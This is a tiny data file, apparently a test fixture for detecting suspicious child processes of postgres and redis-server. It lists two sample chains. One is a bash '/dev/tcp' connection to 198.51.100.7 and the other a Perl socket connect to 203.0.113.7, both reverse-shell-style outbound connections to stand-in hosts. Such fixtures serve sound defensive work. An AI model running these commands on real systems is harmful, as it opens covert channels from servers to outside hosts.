# SPDX-License-Identifier: Apache-2.0
# hits: 2
# fake: /usr/lib/postgresql/15/bin/postgres /usr/bin/redis-server
chain /usr/lib/postgresql/15/bin/postgres :: bash -c 'exec 3<>/dev/tcp/198.51.100.7/80' || true
chain /usr/bin/redis-server :: perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(443, inet_aton("203.0.113.7")))'
